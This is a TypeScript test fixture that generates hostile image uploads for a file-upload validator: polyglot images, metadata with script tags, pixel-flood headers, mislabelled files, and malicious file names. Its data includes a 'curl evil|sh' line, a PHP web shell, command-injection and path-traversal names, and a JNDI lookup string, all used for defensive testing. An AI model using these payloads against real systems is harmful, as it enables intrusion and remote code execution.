import sharp, { type Exif } from 'sharp';
import type { FileKindName } from '#contract/files/file-kinds.ts';
import { type Hostile, MARK, office } from './hostile-files.ts';

const solid = () => sharp({ create: { width: 24, height: 16, channels: 3, background: '#1f5eff' } });
const formats = ['jpeg', 'png', 'gif', 'webp'] as const;
const pictures = new Map<string, Buffer>();
for (const format of formats) pictures.set(format, await solid()[format]().toBuffer());
const picture = (format: string) => pictures.get(format) as Buffer;
const text = (content: string) => Buffer.from(content);

const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${MARK}"/>`;
/** Data appended to a picture, so that another program reads it as another type. */
const tails: Record<string, Buffer> = {
  'a page': text(`<!doctype html><script>${MARK}</script>`),
  'an SVG': text(svg),
  'a script': text(`*/=1;${MARK}`),
  'a PHP page': text(`<?php ${MARK} ?>`),
  'a JSP': text(`<% ${MARK} %>`),
  'a shell script': text(`\n#!/bin/sh\n# ${MARK}\n`),
  'a PDF': text(`%PDF-1.7\n1 0 obj<</Title(${MARK})>>endobj\n%%EOF`),
  'an archive': Buffer.concat([office({}), text(MARK)]),
  'a program': Buffer.concat([text('MZ'), Buffer.alloc(200), text(MARK)]),
  'an ELF': Buffer.concat([text('\x7fELF'), Buffer.alloc(60), text(MARK)]),
  'a second picture': Buffer.concat([picture('jpeg'), text(MARK)]),
};
const polyglots = formats.flatMap((format) =>
  Object.entries(tails).map(([name, tail]): Hostile => {
    const bytes = Buffer.concat([picture(format), tail]);
    return { kind: 'avatar', name: `a.${format}`, bytes, about: `${format} with ${name} behind it`, end: 'harmless' };
  }),
);

/** Metadata of the picture: author, place, camera, comments. */
const gps = { GPSLatitude: '39/1 54/1 0/1', GPSLatitudeRef: 'N', GPSLongitude: '116/1 23/1 0/1', GPSLongitudeRef: 'E' };
const exifs: Record<string, Exif> = {
  'the place where it was taken': { IFD0: { Copyright: MARK }, IFD3: gps },
  'the name of its maker': { IFD0: { Artist: MARK, Copyright: MARK } },
  'the device': { IFD0: { Make: MARK, Model: MARK, Software: MARK } },
  'a comment': { IFD0: { ImageDescription: `<script>${MARK}</script>` } },
  'a moment': { IFD0: { Copyright: MARK }, IFD2: { DateTimeOriginal: '2026:11:20 10:00:00' } },
};
const described: Hostile[] = [];
for (const format of ['jpeg', 'png', 'webp'] as const) {
  for (const [name, exif] of Object.entries(exifs)) {
    const bytes = await solid().withExif(exif)[format]().toBuffer();
    described.push({
      kind: 'avatar',
      name: `a.${format}`,
      bytes,
      about: `${format} that tells ${name}`,
      end: 'harmless',
    });
  }
  const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/">${MARK}</x:xmpmeta>`;
  const bytes = await solid().withXmp(xmp)[format]().toBuffer();
  described.push({ kind: 'avatar', name: `a.${format}`, bytes, about: `${format} with XMP`, end: 'harmless' });
}
/** A text chunk, which PNG readers keep, and comments of a GIF and a JPEG. */
const comment = Buffer.from([0xff, 0xfe, 0, MARK.length + 2]);
described.push({
  kind: 'avatar',
  name: 'a.jpg',
  bytes: Buffer.concat([picture('jpeg').subarray(0, 2), comment, text(MARK), picture('jpeg').subarray(2)]),
  about: 'jpeg with a comment',
  end: 'harmless',
});
const gif = picture('gif');
described.push({
  kind: 'avatar',
  name: 'a.gif',
  bytes: Buffer.concat([
    gif.subarray(0, -1),
    Buffer.from([0x21, 0xfe, MARK.length]),
    text(MARK),
    Buffer.from([0, 0x3b]),
  ]),
  about: 'gif with a comment',
  end: 'harmless',
});

/** Pictures that declare more pixels than allowed. */
function promising(format: string, width: number, height: number): Buffer {
  const bytes = Buffer.from(picture(format));
  if (format === 'png') {
    bytes.writeUInt32BE(width, 16);
    bytes.writeUInt32BE(height, 20);
  } else if (format === 'gif') {
    bytes.writeUInt16LE(width & 0xffff, 6);
    bytes.writeUInt16LE(height & 0xffff, 8);
  } else {
    const frame = bytes.indexOf(Buffer.from([0xff, 0xc0]));
    bytes.writeUInt16BE(height & 0xffff, frame + 5);
    bytes.writeUInt16BE(width & 0xffff, frame + 7);
  }
  return bytes;
}
const kinds: FileKindName[] = ['avatar', 'logo', 'companyPicture', 'chatPicture', 'licence', 'voucher', 'evidence'];
const floods = kinds.flatMap((kind) =>
  [
    ['png', 65_535, 65_535],
    ['png', 1_000_000, 65],
    ['png', 1, 2_147_483_647],
    ['jpeg', 65_500, 65_500],
  ].map(([format, width, height]): Hostile => {
    const bytes = promising(String(format), Number(width), Number(height));
    return { kind, name: `a.${format}`, bytes, about: `${format} of ${width} × ${height}`, end: 'refused' };
  }),
);

/** GIF readers use the frames where the declared screen is implausible: it is drawn at its real size. */
const vastScreen: Hostile = {
  kind: 'avatar',
  name: 'a.gif',
  bytes: promising('gif', 65_535, 65_535),
  about: 'gif of a screen of 65535 × 65535',
  end: 'harmless',
};

/** Only the bytes decide, whatever the name and the header declare. */
const lies: Record<string, Buffer> = {
  'an SVG': text(svg),
  'a page': text(`<!doctype html><script>${MARK}</script>`),
  'a script': text(MARK),
  'a style sheet': text('body{background:url(javascript:x)}'),
  'a shell script': text('#!/bin/sh\ncurl evil|sh'),
  'a PHP page': text('<?php system($_GET[0]); ?>'),
  'a program': Buffer.concat([text('MZ'), Buffer.alloc(500), text(MARK)]),
  'an ELF': Buffer.concat([text('\x7fELF'), Buffer.alloc(500)]),
  'a class': Buffer.from('cafebabe0000003400', 'hex'),
  'an archive': office({}, '<Types/>'),
  'a video of nothing': text('\0\0\0\x18ftypisom'),
  'an old document': Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2_000)]),
  'a WOFF': Buffer.concat([text('wOFF'), Buffer.alloc(60)]),
  'a WASM': Buffer.from('0061736d01000000', 'hex'),
};
const lying = kinds.flatMap((kind) =>
  Object.entries(lies).map(
    ([name, bytes]): Hostile => ({
      kind,
      name: 'a.png',
      bytes,
      about: `${name} that says it is a PNG`,
      end: 'refused',
    }),
  ),
);

const names = [
  '..%2f..%2fetc%2fpasswd',
  '..\\..\\windows\\win.ini',
  'C:\\boot.ini',
  '\\\\evil\\share\\a.jpg',
  'file:///etc/passwd',
  'a.php.jpg',
  'a.jpg.php',
  'a.jpg;.asp',
  'a.jpg::$DATA',
  '....//....//x',
  '~/.ssh/authorized_keys',
  '-rf *.jpg',
  '$(reboot).jpg',
  '`reboot`.jpg',
  'a|b.jpg',
  "'; drop table upload; --.jpg",
  '{{7*7}}.jpg',
  '\u0024{jndi:ldap://evil}.jpg',
  'a\r\nSet-Cookie: x=1.jpg',
  'a\u2028b.jpg',
  '\u202eexe.gpj',
  '\u200bx.jpg',
  '.',
  '..',
  'web.config',
  'NUL',
  'desktop.ini',
];
const named = names.map(
  (name): Hostile => ({
    kind: 'avatar',
    name,
    bytes: picture('jpeg'),
    about: `the name ${JSON.stringify(name.slice(0, 40))}`,
    end: 'harmless',
  }),
);
const unnameable = ['a.jpg\u0000.php', '长'.repeat(400), ' '].map(
  (name): Hostile => ({
    kind: 'avatar',
    name,
    bytes: picture('jpeg'),
    about: `a name of ${name.length} signs`,
    end: 'refused',
  }),
);

/** Malicious pictures, combined with the kinds they may be uploaded as. */
export const hostilePictures: Hostile[] = [
  ...polyglots,
  ...described,
  ...floods,
  vastScreen,
  ...lying,
  ...named,
  ...unnameable,
];
